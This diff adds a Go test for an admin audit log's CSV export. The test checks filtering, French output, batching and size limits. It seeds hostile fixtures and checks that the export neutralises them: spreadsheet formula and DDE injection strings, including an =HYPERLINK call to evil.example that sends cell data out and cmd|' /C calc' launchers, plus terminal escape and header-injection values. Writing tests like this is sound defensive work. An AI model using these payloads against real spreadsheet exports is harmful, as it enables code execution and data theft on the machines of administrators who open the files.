@@ -2,6 +2,7 @@ package web_test
 
 import (
 	"context"
+	"encoding/csv"
 	"fmt"
 	"net/http"
 	"net/url"
@@ -11,6 +12,7 @@ import (
 	"time"
 
 	"github.com/airlockhq/airlock"
+	"github.com/airlockhq/airlock/web"
 )
 
 const (
@@ -202,5 +204,123 @@ func TestAuditFilters(t *testing.T) {
 	r = e.get(c, "/admin/audit?from=2026-01-01&kind=rate_limited&page=2&to=2026-01-31")
 	if n := strings.Count(r.body, "<tr>") - 1; n != 10 || !strings.Contains(r.body, `<a href="/admin/audit?from=2026-01-01&amp;kind=rate_limited&amp;to=2026-01-31" rel="prev">`) {
 		t.Fatalf("page 2: %d rows\n%s", n, r.body)
+	}
+}
+
+// readCSV reads an export: UTF-8 with a byte order mark, CRLF lines.
+func readCSV(t *testing.T, r response) [][]string {
+	t.Helper()
+	if r.StatusCode != http.StatusOK || r.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
+		r.Header.Get("Content-Disposition") != `attachment; filename="audit.csv"` {
+		t.Fatalf("export: %d %q %q\n%s", r.StatusCode, r.Header.Get("Content-Type"), r.Header.Get("Content-Disposition"), r.body)
+	}
+	body, ok := strings.CutPrefix(r.body, "\ufeff")
+	if !ok || !strings.Contains(body, "\r\n") {
+		t.Fatal("no byte order mark, or not CRLF")
+	}
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
+}
+
+// TestAuditCSV: the export holds every event the page's filter selects,
+// in the administrator's language with the ids beside the words; no cell
+// a spreadsheet would run as a formula, no control character; the page
+// links to it with its filter.
+func TestAuditCSV(t *testing.T) {
+	e := newEnv(t)
+	admin := e.user("admin@example.com", adminPW, airlock.GroupAdmin)
+	ada := e.user("ada@example.com", "violet tractor on the moon")
+	auditEvents(t, e, ada, admin)
+	// What an attacker types as an address or sends as a user agent, on
+	// the 11th, and a refused sign-in of a crafted address on the 12th.
+	at := time.Date(2026, 2, 11, 18, 0, 0, 0, time.UTC)
+	hostile := []*airlock.AuditEvent{
+		{At: at, Kind: airlock.AuditSignIn, Subject: `=HYPERLINK("https://evil.example/?"&A1,"Click")`, IP: "203.0.113.9",
+			UserAgent: "+cmd|' /C calc'!A0", Outcome: "failure", Detail: "no_account"},
+		{At: at.Add(time.Minute), Kind: airlock.AuditSignIn, Subject: "@SUM(1+1)*cmd|' /C calc'!A0", IP: "203.0.113.9",
+			UserAgent: "-2+3+cmd|' /C calc'!A0", Outcome: "failure", Detail: "-1+1"},
+		{At: at.Add(2 * time.Minute), Kind: airlock.AuditSignIn, Subject: "\t=1+1", IP: "203.0.113.9",
+			UserAgent: "\r=1+1", Outcome: "failure", Detail: "no_account"},
+		{At: at.Add(3 * time.Minute), Kind: airlock.AuditSignIn, Subject: "eve\x1b[31m@example.com\u202e", IP: "203.0.113.9",
+			UserAgent: "Mozilla/5.0\x00\x07 (evil)\nX-Injected: 1", Outcome: "failure", Detail: "no_account"},
+	}
+	for _, ev := range hostile {
+		if err := e.db.InsertAudit(context.Background(), ev); err != nil {
+			t.Fatal(err)
+		}
+	}
+	c := e.signIn("admin@example.com", adminPW)
+	query := "kind=sign_in&from=2026-02-01&to=2026-02-11"
+	page := e.get(c, "/admin/audit?"+query)
+	if !strings.Contains(page.body, `<a href="/admin/audit.csv?from=2026-02-01&amp;kind=sign_in&amp;to=2026-02-11" download>Download these events (CSV)</a>`) {
+		t.Fatalf("no link to the export with the filter:\n%s", page.body)
+	}
+	rows := readCSV(t, e.get(c, "/admin/audit.csv?"+query))
+	want := [][]string{
+		{"Time (UTC)", "Event", "Event id", "Outcome", "Outcome id", "Details", "Actor", "Subject", "Subject id", "IP address", "Browser", "Operating system", "User agent"},
+		{"2026-02-11T18:03:00Z", "Sign-in", "sign_in", "Failure", "failure", "no account has this address", "", "eve\ufffd[31m@example.com\ufffd", "", "203.0.113.9", "", "", "Mozilla/5.0\ufffd\ufffd (evil)\ufffdX-Injected: 1"},
+		{"2026-02-11T18:02:00Z", "Sign-in", "sign_in", "Failure", "failure", "no account has this address", "", "\ufffd=1+1", "", "203.0.113.9", "", "", "\ufffd=1+1"},
+		{"2026-02-11T18:01:00Z", "Sign-in", "sign_in", "Failure", "failure", "'-1+1", "", "'@SUM(1+1)*cmd|' /C calc'!A0", "", "203.0.113.9", "", "", "'-2+3+cmd|' /C calc'!A0"},
+		{"2026-02-11T18:00:00Z", "Sign-in", "sign_in", "Failure", "failure", "no account has this address", "", `'=HYPERLINK("https://evil.example/?"&A1,"Click")`, "", "203.0.113.9", "", "", "'+cmd|' /C calc'!A0"},
+		{"2026-02-11T09:30:00Z", "Sign-in", "sign_in", "Failure", "failure", "no account has this address", "", "typo@example.com", "", "2001:db8::1", "Safari 17", "iOS 17.5", safariOnIPhone},
+		{"2026-02-10T09:30:00Z", "Sign-in", "sign_in", "Success", "success", "", "ada@example.com", "ada@example.com", ada.ID, "198.51.100.7", "Firefox 128", "Windows", firefoxOnWindows},
+	}
+	if len(rows) != len(want) {
+		t.Fatalf("%d rows, want %d:\n%q", len(rows), len(want), rows)
+	}
+	for i := range want {
+		if fmt.Sprintf("%q", rows[i]) != fmt.Sprintf("%q", want[i]) {
+			t.Errorf("row %d:\n got %q\nwant %q", i, rows[i], want[i])
+		}
+	}
+	// Whatever the row: no cell a spreadsheet runs, no control character.
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a formula: %q", cell)
+			}
+			if strings.IndexFunc(cell, airlock.UnsafeRune) >= 0 {
+				t.Errorf("a control character: %q", cell)
+			}
+		}
+	}
+
+	// In French, words and headers; the ids stay the same.
+	rows = readCSV(t, e.get(e.adminIn("fr"), "/admin/audit.csv?kind=user_updated"))
+	if len(rows) != 2 || rows[0][1] != "Événement" || rows[1][1] != "Utilisateur modifié" || rows[1][2] != "user_updated" || rows[1][5] != "modifié : nom" ||
+		rows[1][6] != "admin@example.com" {
+		t.Errorf("French export: %q", rows)
+	}
+
+	// Every event, not one page: the export reads the store in batches.
+	for i := range 2500 {
+		if err := e.db.InsertAudit(context.Background(), &airlock.AuditEvent{At: time.Date(2026, 1, 5, 0, 0, i, 0, time.UTC),
+			Kind: airlock.AuditRateLimited, Subject: fmt.Sprintf("bot%d@example.com", i), Outcome: "rate_limited"}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rows = readCSV(t, e.get(c, "/admin/audit.csv?kind=rate_limited"))
+	seen := map[string]bool{}
+	for _, row := range rows[1:] {
+		seen[row[7]] = true
+	}
+	if len(rows) != 2501 || len(seen) != 2500 || rows[1][7] != "bot2499@example.com" || rows[2500][7] != "bot0@example.com" {
+		t.Fatalf("%d rows, %d subjects", len(rows), len(seen))
+	}
+	// Beyond the most one export holds, the page says to narrow the filter.
+	defer web.SetMaxAuditExport(2000)()
+	if r := e.get(c, "/admin/audit?kind=rate_limited"); strings.Contains(r.body, "/admin/audit.csv") || !strings.Contains(r.body, "To download them, narrow the filter to at most 2000 events.") {
+		t.Errorf("the page offers an export too large:\n%s", r.body)
+	}
+	if r := e.get(c, "/admin/audit.csv?kind=rate_limited"); r.StatusCode != http.StatusBadRequest || !strings.Contains(r.body, "narrow the filter") {
+		t.Errorf("an export too large: %d", r.StatusCode)
+	}
+	// A bad filter: the page again, with the message, as for the page.
+	r := e.get(c, "/admin/audit.csv?from=2026-02-30")
+	if r.StatusCode != http.StatusBadRequest || !strings.Contains(r.Header.Get("Content-Type"), "text/html") || !strings.Contains(r.body, `id="from-error"`) {
+		t.Errorf("bad filter: %d %q", r.StatusCode, r.Header.Get("Content-Type"))
 	}
 }
